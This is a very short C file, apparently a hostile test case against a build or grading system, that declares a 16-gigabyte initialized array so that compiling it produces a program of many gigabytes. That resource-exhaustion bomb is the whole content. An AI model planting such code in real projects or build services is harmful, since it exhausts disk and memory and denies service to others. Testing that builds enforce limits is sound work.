/* Attack: makes a program of many gigabytes. */
#include "kv.h"

char bomb[1ull << 34] = {1};
